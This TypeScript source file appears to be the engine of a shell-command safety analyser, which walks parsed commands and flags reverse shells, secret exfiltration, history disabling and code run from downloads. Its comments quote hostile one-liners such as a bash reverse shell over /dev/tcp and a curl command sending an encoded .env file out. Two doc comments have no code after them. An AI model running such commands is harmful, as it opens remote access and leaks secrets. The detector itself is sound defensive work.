/**
 * The detection engine: walks every part of a parsed command (pipelines,
 * compound bodies, substitutions, heredocs, scripts handed to shells and
 * interpreters), unwraps wrappers, applies the option model and evaluates the
 * rule set (rules/). It holds no rules of its own.
 */
import { parseShell } from "../../shell/index.js";
import type { CompoundCommand, Pipeline, Redirect, Script, SimpleCommand, Word } from "../../shell/types.js";
import { EXEC_ENV_VARIABLES, FILE_WRITERS, INTERPRETERS, NETWORK_FETCHERS, SHELLS, SOURCE_COMMANDS, SQL_CLIENTS } from "../rules/programs.js";
import type { Detection } from "../types.js";
import { collapse, MAX_VARIANTS, MAX_WRAPPERS, type Ctx, type DetectOptions, type LocalMatches, type Site } from "./analysis-base.js";
import { staticArg, type Arg } from "./model.js";
import { canonicalPrefix, parseArgs, plainPrefix, quoteForPrefix } from "./parse-args.js";
import { classifyPath, inDirectory, normalisePath } from "./paths.js";
import { BranchAnalysis } from "./branch-analysis.js";
import { EMBEDDED_BY_PROGRAM } from "./program-analysis.js";
import { RULES_BY_ID, WRITE_RULES, isInert, matchCommand, matchersFor } from "./rule-index.js";
import { alternativeCombinations, forgetAllVariables, newDefinitions } from "./shell-state.js";
import type { Stream } from "./streams.js";
import { basename, resolveWord } from "./words.js";
import { WRAPPERS, unwrapOnce, wrapperKey } from "./wrappers.js";

export type { DetectOptions } from "./analysis-base.js";

/** Values that switch the shell history off. */
const HISTORY_OFF: Readonly<Record<string, RegExp>> = { HISTFILE: /^(?:|\/dev\/null)$/, HISTSIZE: /^0$/, HISTFILESIZE: /^0$/, SAVEHIST: /^0$/ };

const WRITE_OPERATORS = new Set([">", ">>", ">|", "&>", "&>>", "<>", ">&"]);
const ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)=([\s\S]*)$/;
const INTERPRETER_NAME = /^(python|pypy|ruby|perl|php|node|lua|luajit)(?:[0-9]+(?:\.[0-9]+)*)?$/;

function interpreterName(program: string): string | undefined {
  if (INTERPRETERS[program]) return program;
  const m = INTERPRETER_NAME.exec(program);
  return m && INTERPRETERS[m[1]!] ? m[1]! : undefined;
}

class Analysis extends BranchAnalysis {
  /** Parses shell text and walks it. `ctx.depth` counts the nesting of such re-parses. */
  override walkSource(text: string, ctx: Ctx, input: (() => Stream | null) | null = null): void {
    if (ctx.depth > this.maxDepth) {
      this.unanalysable(`nesting deeper than the budget of ${this.maxDepth} re-parsed scripts`, text, ctx);
      return;
    }
    if (++this.parses > this.maxParses) {
      this.unanalysable(`more than ${this.maxParses} nested scripts`, text, ctx);
      return;
    }
    const result = parseShell(text, this.options.parse);
    for (const problem of result.problems) {
      if (problem.includes("time budget")) this.timedOut = true;
      this.unanalysable(problem, text, ctx);
    }
    this.walkScript(result.script, ctx, input);
  }

  override walkScript(script: Script, ctx: Ctx, input: (() => Stream | null) | null = null): void {
    for (let i = 0; i < script.pipelines.length; i++) {
      const p = script.pipelines[i]!;
      const stdin = i === 0 ? input : null;
      // A background job runs in a subshell; the right side of `&&`/`||` may not run at all.
      if (p.background) this.inScope(ctx, "discard", (inner) => this.walkPipeline(p, inner, stdin));
      else if (p.conditional) this.inScope(ctx, "invalidate", (inner) => this.walkPipeline(p, inner, stdin));
      else this.walkPipeline(p, ctx, stdin);
    }
  }

  protected walkPipeline(p: Pipeline, ctx: Ctx, input: (() => Stream | null) | null): void {
    const piped = p.commands.length > 1;
    for (let i = 0; i < p.commands.length; i++) {
      const cmd = p.commands[i]!;
      const stdin = i === 0 ? input : () => this.streamOfCommands(p, i, ctx, input);
      const walk = (c: Ctx): void => {
        if (cmd.kind === "simple") this.walkSimple(cmd, c, stdin, piped ? p.text : undefined);
        else this.walkCompound(cmd, c, stdin);
      };
      // Each command of a pipeline runs in a subshell of its own.
      if (piped) this.inScope(ctx, "discard", walk);
      else walk(ctx);
    }
  }

  protected walkWordSubs(word: Word, ctx: Ctx): void {
    for (const sub of word.substitutions) this.inScope(ctx, "discard", (inner) => this.walkScript(sub.script, inner));
  }

  protected walkRedirectSubs(r: Redirect, ctx: Ctx): void {
    this.walkWordSubs(r.target, ctx);
    if (r.heredoc?.substitutions) for (const sub of r.heredoc.substitutions) this.inScope(ctx, "discard", (inner) => this.walkScript(sub.script, inner));
  }

  protected walkCompound(c: CompoundCommand, ctx: Ctx, stdin: (() => Stream | null) | null): void {
    for (const w of c.words) this.walkWordSubs(w, ctx);
    for (const r of c.redirects) this.walkRedirectSubs(r, ctx);
    if (c.type === "function") {
      this.checkForkBomb(c, ctx);
      const name = c.name ?? /^\s*(?:function\s+)?([^\s(){}]+)/.exec(c.text)?.[1];
      if (name) ctx.defs.functions.set(name, c);
      this.defined(c, ctx);
    } else if (c.type === "subshell") {
      this.inScope(ctx, "discard", (inner) => {
        for (let i = 0; i < c.bodies.length; i++) this.walkScript(c.bodies[i]!, inner, i === 0 ? stdin : null);
      });
    } else if (c.type === "group") {
      for (let i = 0; i < c.bodies.length; i++) this.walkScript(c.bodies[i]!, ctx, i === 0 ? stdin : null);
    } else this.walkBranches(c, ctx);
    const local: LocalMatches = [];
    // The prefix (the compound's whole text, collapsed) only when a redirect writes.
    if (c.redirects.some((r) => WRITE_OPERATORS.has(r.operator))) this.redirectWrites(c.redirects, collapse(c.text), ctx, local);
    this.flush(local);
  }

  /**
   * A command whose words use variables that hold one of a few literal values (set in branches)
   * is walked once per combination of values (at most MAX_VARIANTS), each in a scope of its own.
   */
  protected walkSimple(cmd: SimpleCommand, ctx: Ctx, pipeInput: (() => Stream | null) | null, flow?: string): void {
    const combos = ctx.env && cmd.argv.length > 0 ? alternativeCombinations(cmd, ctx.env) : null;
    if (!combos) return this.walkSimpleOnce(cmd, ctx, pipeInput, flow);
    for (const combo of combos) {
      this.inScope(ctx, "invalidate", (inner) => {
        for (const [name, value] of combo) inner.env!.set(name, value);
        this.walkSimpleOnce(cmd, inner, pipeInput, flow);
      });
    }
  }

  private walkSimpleOnce(cmd: SimpleCommand, ctx: Ctx, pipeInput: (() => Stream | null) | null, flow?: string): void {
    for (const a of cmd.assignments) this.walkWordSubs(a.value, ctx);
    for (const w of cmd.argv) this.walkWordSubs(w, ctx);
    for (const r of cmd.redirects) this.walkRedirectSubs(r, ctx);
    for (const w of cmd.argv) {
      for (const sub of w.substitutions) {
        // `tee >(sh)`: the process substitution reads what the command writes.
        if (sub.kind === "process_out") this.walkScript(sub.script, ctx, () => this.stdinOf(cmd, ctx, pipeInput));
      }
    }
    const local: LocalMatches = [];
    for (const a of cmd.assignments) {
      const out: Arg[] = [];
      resolveWord(a.value, ctx.env, a.value.substitutions.length > 0 ? this.resolver(ctx) : null, out, true);
      const value = out.length === 1 ? out[0]! : { value: a.value.value, static: false, splittable: false, word: a.value };
      // A plain assignment only reaches programs once exported (or under `set -a`); a prefix one does at once.
      this.checkEnvVariable(a.name, value, ctx, cmd.argv.length > 0 || this.allExport);
      if (cmd.argv.length === 0) this.assign(ctx, a, value);
    }
    if (cmd.argv.length === 0) {
      this.redirectWrites(cmd.redirects, "", ctx, local);
      this.flush(local);
      return;
    }
    let writes = false;
    for (const r of cmd.redirects) if (WRITE_OPERATORS.has(r.operator)) writes = true;
    const site: Site = { text: cmd.text, flow: flow ?? cmd.text, stdin: () => this.stdinOf(cmd, ctx, pipeInput), needPrefix: writes };
    if (cmd.assignments.length > 0) site.prefixEnv = new Map(cmd.assignments.filter((a) => a.value.static).map((a) => [a.name, a.value.value]));
    const args = this.resolveArgs(cmd.argv, ctx);
    const prefix = this.evalArgs(args, ctx, site);
    // `bash -i >& /dev/tcp/host/4444 0>&1`: a shell wired to a network connection (a reverse shell).
    if (cmd.redirects.length > 0 && cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
      const program = args[0]?.static ? basename(args[0].value) : "";
      if (SHELLS.has(program) || interpreterName(program)) this.finding("network-to-interpreter", collapse(cmd.text), ctx, `${program} reads and writes a network connection`);
    }
    if (!writes) return;
    this.redirectWrites(cmd.redirects, prefix ?? (args[0] ? plainPrefix(args[0].value, args.slice(1)) : collapse(cmd.text)), ctx, local);
    this.noteRedirectContent(cmd, ctx, pipeInput);
    const head = args[0]?.static ? basename(args[0].value) : "";
    if (pipeInput || NETWORK_FETCHERS.has(head) || WRAPPERS[head]) {
      for (const r of cmd.redirects) {
        // `curl … > x.sh`: the file now holds text from the network.
        if ((r.operator === ">" || r.operator === ">>" || r.operator === ">|" || r.operator === "&>") && (r.fd === undefined || r.fd === 1) && r.target.static) {
          const out = this.streamOfCommand(cmd, pipeInput ? pipeInput() : null, ctx);
          if (out.network) this.noteNetFile(r.target.value, ctx);
        }
      }
    }
    this.flush(local);
  }


  protected override checkEnvVariable(name: string, value: Arg, ctx: Ctx, exported: boolean): void {
    if (HISTORY_OFF[name]?.test(value.value)) this.finding("history-disable", `${name}=${quoteForPrefix(value.value, value.static)}`, ctx);
    const spec = EXEC_ENV_VARIABLES[name];
    if (!spec) return;
    const prefix = `${name}=${quoteForPrefix(value.value, value.static)}`;
    if (spec.flag) {
      if (exported) this.finding("exec-env", prefix, ctx);
    }
    else if (value.static && value.value.trim() !== "") this.walkSource(spec.strip ? value.value.replace(spec.strip, "") : value.value, this.child(ctx, `${name}=`));
  }

  protected redirectWrites(redirects: readonly Redirect[], commandPrefix: string, ctx: Ctx, local: LocalMatches): void {
    for (const r of redirects) {
      if (!WRITE_OPERATORS.has(r.operator)) continue;
      const t = r.target;
      const resolved = this.redirectTarget(t, ctx);
      // `>&2`, `>&-`, and `>&"$fd"` / `>&"${COPROC[1]}"` (a descriptor held in a variable): not files.
      if (r.operator === ">&" && (/^(?:\d+|-)$/.test(resolved.value) || (!resolved.static && /^"?\$\{?[A-Za-z_][A-Za-z0-9_]*(?:\[[0-9]+\])?\}?"?$/.test(t.raw)))) continue;
      const target = `${r.operator} ${quoteForPrefix(resolved.value, resolved.static)}`;
      this.writeTarget(resolved, commandPrefix ? `${commandPrefix} ${target}` : target, ctx, local);
    }
  }

  /** `printf '…' > /tmp/c.sh`: remembers what the command writes, for when the file is run later in the command. */
  private noteRedirectContent(cmd: SimpleCommand, ctx: Ctx, pipeInput: (() => Stream | null) | null): void {
    for (const r of cmd.redirects) {
      if (!(r.operator === ">" || r.operator === ">>" || r.operator === ">|" || r.operator === "&>" || r.operator === "&>>") || (r.fd !== undefined && r.fd !== 1)) continue;
      const target = this.redirectTarget(r.target, ctx);
      if (!target.static) continue;
      const at: Ctx = { ...ctx, env: ctx.env ? new Map(ctx.env) : null };
      this.noteWrittenFile(target.value, ctx, r.operator.endsWith(">>"), () => this.streamOfCommand(cmd, pipeInput ? pipeInput() : null, at).text);
    }
  }

  /** A redirect's file, with known variables and substitution outputs put in (`> "$out"`, `> $d/sda`). */
  private redirectTarget(t: Word, ctx: Ctx): Arg {
    if (t.static) return { value: t.value, static: true, splittable: false, word: t };
    const out = this.resolveArgs([t], ctx);
    // Bash refuses a redirect that expands to several words ("ambiguous redirect"): nothing is written.
    if (out.length === 1) return out[0]!;
    return { value: t.value, static: false, splittable: false, word: t };
  }

  protected override writeTarget(target: Arg, prefix: string, ctx: Ctx, local: LocalMatches): void {
    const bits = classifyPath(target.static ? inDirectory(ctx.cwd, target.value) : target.value, target.static);
    if (bits === 0) return;
    for (const w of WRITE_RULES) if ((w.bits & bits) !== 0) local.push({ rule: w.rule, prefix, detail: this.detail(ctx) });
  }



  /** Unwraps wrappers, then analyses the command. Returns the final command's canonical prefix. */
  override evalArgs(initial: Arg[], ctx: Ctx, site: Site): string | undefined {
    let args = initial;
    let chain = ctx.chain;
    let privileged = ctx.privileged;
    let stdin = site.stdin;
    for (let step = 0; ; step++) {
      if (args.length === 0) return undefined;
      const here: Ctx = chain === ctx.chain && privileged === ctx.privileged ? ctx : { ...ctx, chain, privileged };
      if (step > MAX_WRAPPERS) {
        this.unanalysable(`more than ${MAX_WRAPPERS} nested wrappers`, site.text, here);
        return undefined;
      }
      const name = args[0]!;
      if (name.network) this.finding("network-to-interpreter", collapse(site.text), here, "the command comes from the network");
      if (name.decoded) this.finding("decode-to-interpreter", collapse(site.text), here, "the command comes from decoded text");
      if (!name.static) {
        this.unanalysable(`the command name is only known when it runs: ${name.value}`, site.text, here);
        return undefined;
      }
      if (name.word?.glob && /[*?[]/.test(name.value)) {
        this.unanalysable(`the command name is a glob pattern: ${name.value}`, site.text, here);
        return undefined;
      }
      // Aliases and functions defined earlier apply to the command word itself (wrappers run programs).
      if (step === 0 && this.callDefinition(args, here, site)) return undefined;
      // `coproc { …; }`, `time { …; }` read as words: the braces are not a program.
      if (name.value === "{" || name.value === "(") {
        args = args.slice(1);
        continue;
      }
      const program = basename(name.value);
      if (program === "") return undefined;
      if (name.value.includes("/") && this.isNetFile(name, here)) this.finding("network-to-interpreter", collapse(site.text), here, `${name.value} was downloaded earlier in the command`);
      if (name.value.includes("/") && this.runWrittenFile(name, "shell", here, site)) return undefined;
      const key = wrapperKey(program, args);
      if (key && EMBEDDED_BY_PROGRAM.has(program) && WRAPPERS[program]) {
        // `ssh -o ProxyCommand=…`: options of a wrapper that run a command locally.
        this.embedded(program, parseArgs(program, args.slice(1), WRAPPERS[program]!.options), EMBEDDED_BY_PROGRAM.get(program)!, here, site);
      }
      if (!key) return this.evalCommand(program, args, here, { ...site, stdin });
      // `… | ssh host 'cat > x'`: ssh sends what it reads.
      if (program === "ssh" && stdin?.()?.secret) this.finding("secret-to-network", collapse(site.flow), here, "ssh sends what it reads, which holds secrets");
      const unwrapped = unwrapOnce(key, args);
      for (const a of unwrapped.assignments) {
        const m = ASSIGNMENT.exec(a.value);
        if (m) this.checkEnvVariable(m[1]!, { ...a, value: m[2]! }, here, true);
      }
      chain = [...chain, unwrapped.label];
      privileged = privileged || unwrapped.privileged;
      const next: Ctx = { ...ctx, chain, privileged };
      if (unwrapped.kind === "none") {
        if (unwrapped.rootShell) this.finding("root-shell", collapse(site.text), next);
        if (unwrapped.stdinShell && stdin) this.consumeStream(stdin(), "shell", next, collapse(site.flow));
        return undefined;
      }
      if (unwrapped.kind === "script") {
        // runScriptArg adds the label to the chain itself; `eval` runs in this very shell (so it shares the variables).
        if (unwrapped.label === "eval") ctx.env ??= new Map();
        const scriptCtx: Ctx = { ...ctx, chain: chain.slice(0, -1), privileged };
        this.runScriptArg(unwrapped.script, scriptCtx, unwrapped.label, site.text, { sameShell: unwrapped.label === "eval", input: stdin });
        if (unwrapped.label === "eval") ctx.cwd = scriptCtx.cwd;
        return undefined;
      }
      if (unwrapped.xargs) {
        const variants = this.xargsVariants(unwrapped.args, unwrapped.xargs.replace, stdin);
        stdin = null;
        if (variants.length > 1) {
          let prefix: string | undefined;
          for (const v of variants) prefix = this.evalArgs(v, next, { ...site, stdin: null }) ?? prefix;
          return prefix;
        }
        args = variants[0] ?? [];
      } else args = unwrapped.args;
    }
  }

  /** `xargs CMD`: the input is appended (or put in place of `-I` text); unknown input is one dynamic operand. */
  protected xargsVariants(args: Arg[], replace: string | null, stdin: (() => Stream | null) | null): Arg[][] {
    const s = stdin?.() ?? null;
    const variants = this.xargsArguments(args, replace, s);
    // What xargs puts in carries the input's secrets (`base64 .env | xargs -I{} curl "…?d={}"`).
    if (!s?.secret) return variants;
    return variants.map((v) => v.map((a, i) => (i >= args.length || a !== args[i] ? { ...a, secret: true } : a)));
  }

  private xargsArguments(args: Arg[], replace: string | null, s: Stream | null): Arg[][] {
    let items = s?.text != null ? s.text.split(/[\s\0]+/).filter(Boolean).slice(0, 64) : null;
    // Names from a glob (`printf '%s\0' *.bak | xargs rm`) are only known when it runs.
    if (items?.some((item) => /[*?[]/.test(item))) items = null;
    if (replace !== null) {
      const values = items && items.length > 0 ? items.slice(0, MAX_VARIANTS) : null;
      if (!values) return [args.map((a) => (a.value.includes(replace) ? { value: a.value, static: false, splittable: false, word: a.word } : a))];
      return values.map((item) => args.map((a) => (a.value.includes(replace) ? { ...a, value: a.value.split(replace).join(item) } : a)));
    }
    if (items) return [[...args, ...items.map(staticArg)]];
    // Paths from `git ls-files`, `grep -l`, `find .`: unknown, but below the working directory.
    return [[...args, { value: s?.relativePaths ? "./$XARGS_INPUT" : "$XARGS_INPUT", static: false, splittable: false, word: null }]];
  }

  /** Runs a script argument: re-parsed when static; otherwise unanalysable, with what its substitutions tell. */

  protected evalCommand(program: string, args: Arg[], ctx: Ctx, site: Site): string | undefined {
    // Builtins that change what later words mean.
    if (this.shellBuiltin(program, args, ctx, site)) return undefined;
    if (program === "cd" || program === "pushd") {
      const dir = args.slice(1).find((a) => !(a.static && /^-[LPe@]+$/.test(a.value)));
      if (!dir) ctx.cwd = "~";
      else if (dir.static && dir.value !== "-") ctx.cwd = normalisePath(inDirectory(ctx.cwd, dir.value));
      else ctx.cwd = null;
      return undefined;
    }
    if (program === "trap") {
      const action = args[1];
      if (action && action.value !== "-" && !action.value.startsWith("-")) this.runScriptArg(action, ctx, "trap", site.text);
      return undefined;
    }
    if (SHELLS.has(program)) return this.shell(program, args, ctx, site);
    if (SOURCE_COMMANDS.has(program)) {
      const file = args[1];
      if (file) this.scriptFile(file, "shell", this.sameShell(ctx, program), site);
      // What a sourced file sets is not known here.
      forgetAllVariables((ctx.env ??= new Map()));
      return plainPrefix(program, args.slice(1));
    }
    const interpreter = interpreterName(program);
    const interpreterPrefix = interpreter ? this.interpreter(interpreter, args, ctx, site) : undefined;
    // Interpreters have rules of their own too (`perl -i`, `php artisan migrate:fresh`).
    const name = interpreter ?? program;
    this.otherCommands(name, args, ctx, site);

    const matchers = matchersFor(name);
    const sql = SQL_CLIENTS[name];
    const writer = FILE_WRITERS[name];
    const embedded = EMBEDDED_BY_PROGRAM.get(name);
    const textTool = name === "sed" || name === "gsed" || name === "awk" || name === "gawk" || name === "mawk" || name === "nawk";
    if (!matchers && !sql && !writer && !embedded && !textTool && name !== "find") return interpreterPrefix;

    const parsed = parseArgs(name, args.slice(1));
    let prefix: string | null = null;
    const getPrefix = (): string => (prefix ??= canonicalPrefix(parsed));
    const local: LocalMatches = [];
    if (matchers && !isInert(parsed)) for (const m of matchers) if (matchCommand(m, parsed, ctx.cwd)) local.push({ rule: m.rule, prefix: getPrefix(), detail: this.detail(ctx) });
    if (name === "curl" || name === "wget" || name === "aria2c") this.noteDownloads(name, parsed, ctx);
    // A dry run writes nothing either (`rsync -n --delete a/ /var/www/`).
    if (writer && !isInert(parsed)) for (const t of this.writerTargets(name, parsed)) this.writeTarget(t, getPrefix(), ctx, local);
    if (sql) this.sqlClient(name, parsed, ctx, site, getPrefix());
    if (embedded) this.embedded(name, parsed, embedded, ctx, site);
    if (textTool) this.textTool(name, parsed, ctx, local, getPrefix());
    if (name === "find") this.findExecs(parsed, ctx, site);
    this.flush(local);
    return prefix ?? interpreterPrefix ?? (local.length > 0 || site.needPrefix ? getPrefix() : undefined);
  }

  /** Normalised form of a file path for the downloaded-files set. */
}

/** Analyses a command (the parser must be initialised). */
export function analyse(command: string, options: DetectOptions = {}): Detection {
  return analyseTimed(command, options).detection;
}

/** `analyse`, also telling whether a parse ran out of its time budget (such a result must not be cached). */
export function analyseTimed(command: string, options: DetectOptions = {}): { detection: Detection; timedOut: boolean } {
  const a = new Analysis(options);
  a.walkSource(command, { depth: 0, env: null, chain: [], privileged: false, cwd: null, netFiles: new Set(), defs: newDefinitions() });
  a.walkUncalledFunctions();
  const hardline = a.matches.some((m) => m.hardline);
  const detection: Detection = {
    command,
    analysable: a.reasons.length === 0,
    unanalysable: a.reasons,
    matches: a.matches,
    hardline,
    dangerous: a.matches.length > 0,
  };
  return { detection, timedOut: a.timedOut };
}

export { RULES_BY_ID };

